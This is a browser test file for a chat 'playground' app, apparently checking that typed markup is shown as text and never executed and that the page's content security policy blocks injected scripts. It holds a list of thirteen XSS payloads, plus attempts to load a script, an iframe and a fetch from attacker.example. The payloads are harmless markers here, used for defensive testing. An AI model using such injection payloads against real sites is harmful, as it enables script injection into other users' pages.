import { describe, expect, test } from 'vitest';
import { chromiumPath } from './chromium.ts';
import { composer, openPlayground, say } from './playground-page.ts';
import { useBrowser } from './use-browser.ts';

const attacks = [
  '<script>globalThis.hit = 1</script>',
  '<img src=x onerror="globalThis.hit = 1">',
  '"><svg onload=globalThis.hit=1>',
  "' autofocus onfocus=globalThis.hit=1 x='",
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '[link](javascript:globalThis.hit=1)',
  '<a href="javascript:globalThis.hit=1">x</a>',
  '</textarea><script>globalThis.hit=1</script>',
  '<style>*{display:none}</style>',
  '&lt;script&gt;globalThis.hit=1&lt;/script&gt;',
  '{{constructor.constructor("globalThis.hit=1")()}}',
  '<!--<img title="--><img src=x onerror=globalThis.hit=1>">',
  '\u202e<svg/onload=globalThis.hit=1>',
];

describe.skipIf(!chromiumPath)('attacks on the playground in a browser', { timeout: 90_000 }, () => {
  const suite = useBrowser();

  test('markup in a prompt, a preset’s name, an unknown command and a flag is shown as it was typed, and runs nowhere', async () => {
    await using ada = await openPlayground(suite.browser, suite.app.url, 'ada');
    const { page, problems } = ada;
    for (const attack of attacks) {
      const answers = await say(page, `/imagine ${attack} --draft on`);
      await answers.first().waitFor();
    }
    for (const line of [
      `/${attacks[1]}`,
      `/preset save ${attacks[1]}`,
      `/status ${attacks[1]}`,
      `/imagine fox --ar ${attacks[1]}`,
    ]) {
      const answers = await say(page, line);
      await answers.first().waitFor();
    }
    await page.reload();
    await composer(page).waitFor();
    await page.locator('.message-own').nth(attacks.length).waitFor();
    const text = await page.locator('main').innerText();
    expect(text).toContain('<img src=x onerror="globalThis.hit = 1">');
    expect(await page.evaluate('globalThis.hit')).toBeUndefined();
    expect(
      await page
        .locator('main script, main iframe, main [onerror], main [onload], main a[href^="javascript:"]')
        .count(),
    ).toBe(0);
    expect(problems.filter((problem) => !problem.includes('400'))).toEqual([]);
  });

  test('the policy lets no inline script, handler, style element or foreign script in, whoever puts it there', async () => {
    await using ada = await openPlayground(suite.browser, suite.app.url, 'ada');
    const { page } = ada;
    const blocked = await page.evaluate<string[]>(`(async () => {
      const blocked = [];
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
      const attempt = (act) => { try { act(); } catch (error) { blocked.push(error.name); } };
      attempt(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.hit=1">'); });
      attempt(() => { const s = document.createElement('script'); s.textContent = 'globalThis.hit=1'; document.body.append(s); });
      attempt(() => { const s = document.createElement('script'); s.src = 'https://attacker.example/x.js'; document.body.append(s); });
      attempt(() => { const s = document.createElement('style'); s.textContent = '*{display:none}'; document.head.append(s); });
      attempt(() => { document.body.setAttribute('onclick', 'globalThis.hit=1'); document.body.click(); });
      // Later, as what a debugger evaluates may evaluate in turn.
      setTimeout(() => attempt(() => globalThis.eval('globalThis.hit=1')));
      attempt(() => { const f = document.createElement('iframe'); f.src = 'https://attacker.example/'; document.body.append(f); });
      await fetch('https://attacker.example/').catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return blocked;
    })()`);
    expect(await page.evaluate('globalThis.hit')).toBeUndefined();
    expect(blocked).toEqual(expect.arrayContaining(['style-src-elem', 'frame-src', 'connect-src']));
    // Markup, a script's text, its address and a handler, each as a plain string.
    expect(blocked.filter((one) => one === 'TypeError').length).toBeGreaterThanOrEqual(4);
  });
});
